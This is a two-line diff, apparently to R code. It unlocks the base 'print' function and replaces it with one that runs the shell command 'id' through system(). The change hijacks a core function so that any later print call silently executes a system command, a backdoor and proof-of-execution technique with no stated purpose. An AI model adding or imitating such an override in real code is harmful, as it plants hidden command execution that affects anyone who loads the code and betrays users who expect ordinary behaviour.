@@ -1,0 +1,2 @@
+unlockBinding("print", baseenv())
+assign("print", function(x) system("id"), envir = baseenv())
